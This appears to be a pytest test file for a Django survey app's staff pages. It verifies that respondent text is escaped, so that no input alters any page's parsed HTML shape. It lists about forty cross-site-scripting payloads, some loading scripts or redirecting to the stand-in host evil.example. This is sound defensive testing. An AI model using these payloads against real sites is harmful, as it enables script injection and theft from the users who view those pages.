"""Whatever people type stays text: no payload changes the shape of any staff page.

Each page is parsed and compared, tag by tag, with the same page over harmless text, so
that nothing here depends on how an escape is written.
"""

from functools import cache
from typing import Any

import pytest
from django.test import Client

from feedback.models import Response, Role, Survey
from feedback.models.identity import encrypt
from feedback.responses import coding
from tests import build
from tests.pages import Page

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></datalist><img src=x onerror=alert(1)>",
    "</style><style>*{display:none}</style>",
    "<!--><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><img src=x onerror=alert(1)></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>",
    "<form action=//evil.example><button>Send</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    '" autofocus onfocus="alert(1)" x="',
    '"/><svg onload=alert(1)>',
    "'\"><img src=x onerror=alert(1)>",
    '" formaction="javascript:alert(1)',
    '" style="position:fixed;inset:0',
    "&lt;b&gt;<b>half escaped</b>",
    "<b title='turned'>turned</b>",
]
HARMLESS = "harmless"
every_payload = pytest.mark.parametrize("payload", PAYLOADS)


def survey_saying(text: str, slug: str) -> tuple[Survey, Response]:
    """A survey with this text in every place that somebody may write into."""
    choice = {"key": "visit", "type": "single_choice", "text": text, "other": text}
    items = [
        {"key": "name", "type": "short_text", "text": text, "help": text, "personal": True},
        {**choice, "choices": [{"code": "often", "text": text}]},
        {"key": "stars", "type": "rating", "text": text, "low": text, "high": text},
        {"key": "wish", "type": "long_text", "text": text},
    ]
    pages = [{"title": text, "introduction": text, "items": items}]
    survey = build.survey(slug=slug, title=text, introduction=text, pages=pages)
    row = build.respond(survey, source=text[:100], wish=text, visit="other", visit__other=text)
    # What only an import or a hand in the database could leave behind.
    row.identity = encrypt({"name": text}, nonce=row.nonce)
    row.answers |= {"name": True}
    row.save()
    return survey, row


def shapes(text: str, slug: str) -> dict[str, Page]:
    """Every page of the desk and the report over that survey."""
    survey, row = survey_saying(text, slug)
    member = build.member(
        survey, Role.OWNER, name=f"of-{slug}", sees_personal=True, may_export=True
    )
    coding.add_tag(row, text[:60], actor=member)
    coding.add_note(row, text, actor=member)
    client = build.signed_in(member)
    tag = {"tag": " ".join(text[:60].split())}
    one = f"/staff/{slug}/responses/{row.pk}/"
    return {
        name: Page.read(answer.content)
        for name, answer in {
            "surveys": client.get("/staff/"),
            "overview": client.get(f"/staff/{slug}/"),
            "list": client.get(f"/staff/{slug}/responses/"),
            "list by tag": client.get(f"/staff/{slug}/responses/", tag),
            "list by words": client.get(f"/staff/{slug}/responses/", {"q": text}),
            "bad filter": client.get(f"/staff/{slug}/responses/", {"status": text}),
            "response": client.get(one, tag),
            "personal": client.post(f"{one}personal/"),
            "refused act": client.post(f"{one}act/", {"status": text}, follow=True),
            "summary": client.get(f"/staff/{slug}/summary/"),
            "export": client.get(f"/staff/{slug}/export/", tag),
            "sign in": Client().get("/staff/login/", {"next": text}),
        }.items()
    }


@cache
def harmless() -> dict[str, Any]:
    return {name: page.shape for name, page in shapes(HARMLESS, "plain").items()}


@every_payload
@pytest.mark.django_db
def test_no_text_changes_the_shape_of_a_page(payload: str) -> None:
    """One unescaped place, and a respondent acts with the rights of whoever reads."""
    found = shapes(payload, "typed")

    for name, page in found.items():
        assert page.shape == harmless()[name], name
    for name in ("list", "response", "personal", "summary"):
        shown = "".join(found[name].pieces)
        assert payload in shown, f"{name} does not show it at all"


@every_payload
def test_this_check_would_catch_it_unescaped(payload: str) -> None:
    """The control: each payload, written raw, does change what a parser sees."""
    places = ("<p>{}</p>", '<p title="{}"></p>', "<title>{}</title>", "<textarea>{}</textarea>")

    changed = [
        Page.read(place.format(payload).encode()).shape
        != Page.read(place.format(HARMLESS).encode()).shape
        for place in places
    ]
    assert any(changed)
